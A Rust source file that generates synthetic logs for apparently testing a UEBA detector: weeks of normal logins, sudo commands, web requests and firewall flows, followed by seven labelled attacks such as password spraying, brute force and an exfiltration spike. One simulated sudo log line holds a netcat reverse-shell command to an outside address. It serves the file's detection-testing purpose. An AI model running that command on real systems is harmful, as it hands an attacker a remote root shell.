//! The detection scenario: four weeks of an organisation's normal behaviour with labelled attacks
//! in the last week, as JSON lines that `watchpost analyze` replays.
//!
//! Normal behaviour has the regularities UEBA learns and the noise it must tolerate: 300 users
//! working weekdays in their own hours (with the odd early or late day), logging in from their
//! office address (some also from a second address in the same network) to their usual servers,
//! occasional mistyped passwords, administrators running their usual `sudo` commands, application
//! requests, and servers' own background (cron, systemd, firewall flows, a deployment account
//! connecting application servers to their databases). Seven attacks follow, each labelled with
//! its lines and the entity it is about, so that alerts can be scored against them.

use watchpost_detect::SplitMix64;

/// Nanoseconds per minute, hour, day.
const MIN: i64 = 60_000_000_000;
const HOUR: i64 = 60 * MIN;
const DAY: i64 = 24 * HOUR;
/// Monday 2026-10-05 00:00 UTC.
pub const START_NS: i64 = 1_791_158_400_000_000_000;

/// One labelled attack.
#[derive(Clone, Debug, serde::Serialize)]
pub struct Attack {
    /// Short name.
    pub name: &'static str,
    /// What happens.
    pub description: &'static str,
    /// The entity (user, host or address) the attack is about.
    pub entity: String,
    /// The attacker's address or host, when there is one.
    pub actor: Option<String>,
    /// First and last event time, ns.
    pub start_ns: i64,
    /// See `start_ns`.
    pub end_ns: i64,
    /// 1-based line numbers of its events in the log.
    pub lines: Vec<u64>,
}

impl Attack {
    /// An attack about `entity` (by `actor`, when there is one), its lines still to come.
    pub fn new(
        name: &'static str,
        description: &'static str,
        entity: &str,
        actor: Option<&str>,
    ) -> Attack {
        Attack {
            name,
            description,
            entity: entity.to_string(),
            actor: actor.map(str::to_string),
            start_ns: i64::MAX,
            end_ns: i64::MIN,
            lines: Vec::new(),
        }
    }
}

/// A generated scenario.
pub struct Scenario {
    /// The log, one JSON object per line, in time order.
    pub lines: Vec<String>,
    /// Event time of each line, ns.
    pub times: Vec<i64>,
    /// The attacks.
    pub attacks: Vec<Attack>,
    /// Events after this time are scored (UEBA warmup is over), ns.
    pub warm_ns: i64,
}

struct User {
    name: String,
    ips: Vec<String>,
    start_hour: i64,
    hours: i64,
    servers: Vec<usize>,
    admin: bool,
    commands: Vec<&'static str>,
}

const COMMANDS: [&str; 12] = [
    "/usr/bin/systemctl status nginx",
    "/usr/bin/systemctl restart nginx",
    "/usr/bin/journalctl -u app --since today",
    "/usr/bin/apt-get update",
    "/usr/bin/tail -n 100 /var/log/syslog",
    "/usr/bin/docker ps",
    "/usr/bin/docker logs app",
    "/usr/sbin/service postgresql status",
    "/bin/df -h",
    "/usr/bin/du -sh /var/lib/docker",
    "/usr/bin/systemctl reload haproxy",
    "/usr/bin/crontab -l",
];

const PATHS: [&str; 6] = [
    "/api/orders",
    "/api/customers",
    "/api/invoices",
    "/api/search",
    "/api/reports",
    "/api/profile",
];

fn host(i: usize) -> String {
    format!("host-{i:03}")
}

fn host_ip(i: usize) -> String {
    format!("10.1.0.{i}")
}

struct Gen {
    rng: SplitMix64,
    events: Vec<(i64, String, Option<usize>)>,
}

impl Gen {
    fn push(&mut self, ts: i64, line: String, attack: Option<usize>) {
        self.events.push((ts, line, attack));
    }

    fn iso(ts: i64) -> String {
        let secs = ts.div_euclid(1_000_000_000);
        let ms = ts.rem_euclid(1_000_000_000) / 1_000_000;
        let days = secs.div_euclid(86_400);
        let rem = secs.rem_euclid(86_400);
        let (y, m, d) = civil(days);
        format!(
            "{y:04}-{m:02}-{d:02}T{:02}:{:02}:{:02}.{ms:03}Z",
            rem / 3600,
            (rem / 60) % 60,
            rem % 60
        )
    }

    #[allow(clippy::too_many_arguments)]
    fn event(
        &mut self,
        ts: i64,
        dataset: &str,
        host: &str,
        message: &str,
        user: Option<&str>,
        src: Option<&str>,
        dst: Option<&str>,
        attack: Option<usize>,
    ) {
        let mut line = format!(
            "{{\"@timestamp\":\"{}\",\"event.dataset\":\"{dataset}\",\"host.name\":\"{host}\",\"message\":\"{}\"",
            Gen::iso(ts),
            message.replace('"', "\\\"")
        );
        if let Some(u) = user {
            line.push_str(&format!(",\"user.name\":\"{u}\""));
        }
        if let Some(s) = src {
            line.push_str(&format!(",\"source.ip\":\"{s}\""));
        }
        if let Some(d) = dst {
            line.push_str(&format!(",\"destination.ip\":\"{d}\""));
        }
        line.push('}');
        self.push(ts, line, attack);
    }

    fn login(&mut self, ts: i64, u: &str, ip: &str, server: usize, attack: Option<usize>) {
        let port = 40_000 + self.rng.below(20_000);
        let h = host(server);
        self.event(
            ts,
            "sshd",
            &h,
            &format!("Accepted password for {u} from {ip} port {port} ssh2"),
            Some(u),
            Some(ip),
            None,
            attack,
        );
        self.event(
            ts + 50_000_000,
            "sshd",
            &h,
            &format!("pam_unix(sshd:session): session opened for user {u}(uid=1000) by (uid=0)"),
            Some(u),
            None,
            None,
            attack,
        );
    }

    fn failed(&mut self, ts: i64, u: &str, ip: &str, server: usize, attack: Option<usize>) {
        let port = 40_000 + self.rng.below(20_000);
        self.event(
            ts,
            "sshd",
            &host(server),
            &format!("Failed password for {u} from {ip} port {port} ssh2"),
            Some(u),
            Some(ip),
            None,
            attack,
        );
    }
}

/// Days since the epoch to (year, month, day) (H. Hinnant's algorithm).
pub(crate) fn civil(z: i64) -> (i64, i64, i64) {
    let z = z + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z.rem_euclid(146_097);
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let y = yoe + era * 400;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = doy - (153 * mp + 2) / 5 + 1;
    let m = if mp < 10 { mp + 3 } else { mp - 9 };
    (if m <= 2 { y + 1 } else { y }, m, d)
}

/// Users and hosts of the organisation.
pub const USERS: usize = 300;
/// Application servers 1-10, user servers 11-40, databases 41-50, others 51-60.
pub const HOSTS: usize = 60;

/// Generates the scenario: `weeks` of normal behaviour (at least 2), the attacks in the last.
pub fn generate(seed: u64, weeks: i64) -> Scenario {
    let weeks = weeks.max(2);
    let mut g = Gen {
        rng: SplitMix64::new(seed),
        events: Vec::new(),
    };
    let users: Vec<User> = (0..USERS)
        .map(|i| {
            let site = i % 4;
            let mut ips = vec![format!("10.{}.{}.{}", 10 + site, i / 50, 10 + i % 50)];
            if i % 3 == 1 {
                ips.push(format!("10.{}.{}.{}", 10 + site, i / 50, 100 + i % 50));
            }
            let n_servers = 1 + i % 3;
            let servers = (0..n_servers).map(|k| 11 + (i * 7 + k * 13) % 30).collect();
            let admin = i % 3 == 0;
            let commands = (0..3)
                .map(|k| COMMANDS[(i + k * 5) % COMMANDS.len()])
                .collect();
            User {
                name: format!("user{i:03}"),
                ips,
                start_hour: 7 + (i % 4) as i64,
                hours: 8 + (i % 2) as i64,
                servers,
                admin,
                commands,
            }
        })
        .collect();
    let days = weeks * 7;
    for day in 0..days {
        let d0 = START_NS + day * DAY;
        let weekday = day % 7 < 5;
        // Servers' own background, every day.
        for h in 1..=HOSTS {
            let hn = host(h);
            for hour in 0..24 {
                let t = d0 + hour * HOUR + g.rng.below(3_600) as i64 * 1_000_000_000;
                g.event(
                    t,
                    "cron",
                    &hn,
                    "(root) CMD (run-parts /etc/cron.hourly)",
                    Some("root"),
                    None,
                    None,
                    None,
                );
                for _ in 0..2 + g.rng.below(3) {
                    let t = d0 + hour * HOUR + g.rng.below(3_600_000) as i64 * 1_000_000;
                    let port = [443, 53, 123, 5432][g.rng.below(4) as usize];
                    let peer = 1 + g.rng.below(HOSTS as u64) as usize;
                    let bytes = 200 + g.rng.below(20_000);
                    let sport = 30_000 + g.rng.below(30_000);
                    g.event(
                        t,
                        "firewall",
                        &hn,
                        &format!(
                            "ALLOW TCP {}:{sport} -> {}:{port} bytes={bytes}",
                            host_ip(h),
                            host_ip(peer)
                        ),
                        None,
                        Some(&host_ip(h)),
                        Some(&host_ip(peer)),
                        None,
                    );
                }
            }
            // Application servers deploy to their databases every half hour.
            if h <= 10 {
                for slot in 0..48 {
                    let t = d0 + slot * 30 * MIN + g.rng.below(60) as i64 * 1_000_000_000;
                    let db = 41 + (h * 3 + (slot as usize % 2)) % 10;
                    let port = 40_000 + g.rng.below(20_000);
                    g.event(
                        t,
                        "sshd",
                        &host(db),
                        &format!(
                            "Accepted publickey for deploy from {} port {port} ssh2",
                            host_ip(h)
                        ),
                        Some("deploy"),
                        Some(&host_ip(h)),
                        None,
                        None,
                    );
                }
            }
        }
        if !weekday {
            continue;
        }
        for u in &users {
            // One day in fifty starts an hour early or late.
            let shift = match g.rng.below(50) {
                0 => -1,
                1 => 1,
                _ => 0,
            };
            let begin = d0 + (u.start_hour + shift) * HOUR;
            let span = u.hours * HOUR;
            let logins = 3 + g.rng.below(4);
            for _ in 0..logins {
                let t = begin + (g.rng.next_f64() * span as f64) as i64;
                let ip = u.ips[g.rng.below(u.ips.len() as u64) as usize].clone();
                let server = u.servers[g.rng.below(u.servers.len() as u64) as usize];
                if g.rng.below(50) == 0 {
                    g.failed(t - 5_000_000_000, &u.name, &ip, server, None);
                }
                g.login(t, &u.name, &ip, server, None);
                if u.admin {
                    for _ in 0..g.rng.below(3) {
                        let cmd = u.commands[g.rng.below(u.commands.len() as u64) as usize];
                        let t2 = t + (1 + g.rng.below(600)) as i64 * 1_000_000_000;
                        let tty = g.rng.below(8);
                        g.event(
                            t2,
                            "sudo",
                            &host(server),
                            &format!(
                                "{} : TTY=pts/{} ; PWD=/home/{} ; USER=root ; COMMAND={cmd}",
                                u.name, tty, u.name
                            ),
                            Some(&u.name),
                            None,
                            None,
                            None,
                        );
                    }
                }
            }
            for _ in 0..10 + g.rng.below(11) {
                let t = begin + (g.rng.next_f64() * span as f64) as i64;
                let ip = u.ips[0].clone();
                let path = PATHS[g.rng.below(PATHS.len() as u64) as usize];
                let app = 1 + g.rng.below(10) as usize;
                let id = g.rng.below(100_000);
                let ms = 5 + g.rng.below(300);
                g.event(
                    t,
                    "webapp",
                    &host(app),
                    &format!("GET {path}/{id} 200 {ms}ms"),
                    Some(&u.name),
                    Some(&ip),
                    None,
                    None,
                );
            }
        }
    }

    // The attacks, in the last week (its Monday is `last`).
    let last = START_NS + (weeks - 1) * 7 * DAY;
    let mut attacks: Vec<Attack> = Vec::new();
    let mut add = |name, description, entity: &str, actor: Option<&str>| {
        attacks.push(Attack::new(name, description, entity, actor));
        attacks.len() - 1
    };
    // 1. A login at 03:10 by someone who works 08:00-17:00, from the usual place.
    let a = add(
        "off_hours_login",
        "user017 (works 08-17 UTC) logs in at 03:10 UTC from the usual address",
        "user017",
        None,
    );
    let u = &users[17];
    g.login(
        last + DAY + 3 * HOUR + 10 * MIN,
        &u.name,
        &u.ips[0].clone(),
        u.servers[0],
        Some(a),
    );
    // 2. A login from a network the user was never seen on.
    let a = add(
        "new_network_login",
        "user042 logs in from 203.0.113.77 during working hours",
        "user042",
        Some("203.0.113.77"),
    );
    let u = &users[42];
    g.login(
        last + DAY + 11 * HOUR,
        &u.name,
        "203.0.113.77",
        u.servers[0],
        Some(a),
    );
    // 3. Password spraying: one address, one password, eighty users, ten minutes.
    let a = add(
        "password_spraying",
        "198.51.100.23 tries one password against 80 users on host-011 in 10 minutes",
        "198.51.100.23",
        Some("198.51.100.23"),
    );
    for k in 0..80usize {
        let t = last + 2 * DAY + 14 * HOUR + (k as i64) * 7_500_000_000;
        g.failed(
            t,
            &users[(k * 7) % USERS].name.clone(),
            "198.51.100.23",
            11,
            Some(a),
        );
    }
    // 4. Brute force, then success.
    let a = add(
        "brute_force_success",
        "192.0.2.44 fails 300 passwords for user123 in 5 minutes at 02:00, then logs in",
        "user123",
        Some("192.0.2.44"),
    );
    let u = &users[123];
    let t0 = last + 2 * DAY + 2 * HOUR;
    for k in 0..300 {
        g.failed(
            t0 + k * 1_000_000_000,
            &u.name,
            "192.0.2.44",
            u.servers[0],
            Some(a),
        );
    }
    g.login(
        t0 + 301 * 1_000_000_000,
        &u.name,
        "192.0.2.44",
        u.servers[0],
        Some(a),
    );
    // 5. A command never run on the host before.
    let a = add(
        "rare_command",
        "user003 (an admin) runs a reverse shell with sudo on its usual server",
        "user003",
        None,
    );
    let u = &users[3];
    let t = last + 3 * DAY + 15 * HOUR;
    g.login(t, &u.name, &u.ips[0].clone(), u.servers[0], Some(a));
    g.event(
        t + 30_000_000_000,
        "sudo",
        &host(u.servers[0]),
        "user003 : TTY=pts/2 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/nc -e /bin/sh 203.0.113.5 4444",
        Some("user003"),
        None,
        None,
        Some(a),
    );
    // 6. Exfiltration: a volume spike of outbound flows from one host.
    let a = add(
        "exfiltration_spike",
        "host-033 sends 3,000 flows to 203.0.113.9 in 10 minutes",
        "host-033",
        Some("203.0.113.9"),
    );
    let t0 = last + 3 * DAY + 13 * HOUR;
    for k in 0..3000i64 {
        let bytes = 1_000_000 + g.rng.below(9_000_000);
        let sport = 30_000 + g.rng.below(30_000);
        g.event(
            t0 + k * 200_000_000,
            "firewall",
            &host(33),
            &format!(
                "ALLOW TCP {}:{sport} -> 203.0.113.9:443 bytes={bytes}",
                host_ip(33)
            ),
            None,
            Some(&host_ip(33)),
            Some("203.0.113.9"),
            Some(a),
        );
    }
    // 7. A new host-to-host path: an application server reaches a host it never reached.
    let a = add(
        "new_host_path",
        "host-004 (10.1.0.4) connects as deploy to host-055, which it never reached",
        "10.1.0.4",
        Some("host-055"),
    );
    let t = last + 4 * DAY + 10 * HOUR + 7 * MIN;
    let port = 40_000 + g.rng.below(20_000);
    g.event(
        t,
        "sshd",
        &host(55),
        &format!(
            "Accepted publickey for deploy from {} port {port} ssh2",
            host_ip(4)
        ),
        Some("deploy"),
        Some(&host_ip(4)),
        None,
        Some(a),
    );

    finish(g.events, attacks, START_NS + 7 * DAY)
}

/// Day number (from the start) of the `d`-th day of the attack fortnight (the last two of
/// `weeks`), moved on to the next weekday when it falls on a weekend: the organisations' attacks
/// land on working days of their victims.
pub(crate) fn attack_weekday(weeks: i64, d: i64) -> i64 {
    let mut day = (weeks - 2) * 7 + d;
    while day % 7 >= 5 {
        day += 1;
    }
    day
}

/// The scenario of `events` (time, line, attack index), in time order, each attack labelled
/// with its lines and time span.
pub(crate) fn finish(
    mut events: Vec<(i64, String, Option<usize>)>,
    mut attacks: Vec<Attack>,
    warm_ns: i64,
) -> Scenario {
    events.sort_by_key(|e| e.0);
    let mut lines = Vec::with_capacity(events.len());
    let mut times = Vec::with_capacity(events.len());
    for (i, (ts, line, attack)) in events.into_iter().enumerate() {
        times.push(ts);
        if let Some(a) = attack {
            let at = &mut attacks[a];
            at.lines.push(i as u64 + 1);
            at.start_ns = at.start_ns.min(ts);
            at.end_ns = at.end_ns.max(ts);
        }
        lines.push(line);
    }
    Scenario {
        lines,
        times,
        attacks,
        warm_ns,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_calendar_is_right() {
        assert_eq!(Gen::iso(START_NS), "2026-10-05T00:00:00.000Z");
        assert_eq!(
            Gen::iso(START_NS + 27 * DAY + HOUR),
            "2026-11-01T01:00:00.000Z"
        );
    }

    #[test]
    fn attacks_are_labelled_with_their_lines() {
        let s = generate(1, 2);
        assert_eq!(s.attacks.len(), 7);
        for a in &s.attacks {
            assert!(!a.lines.is_empty(), "{}", a.name);
            for &l in &a.lines {
                let line = &s.lines[l as usize - 1];
                assert!(line.starts_with('{') && line.ends_with('}'));
            }
        }
        assert_eq!(generate(1, 2).lines, s.lines, "seeded");
    }
}
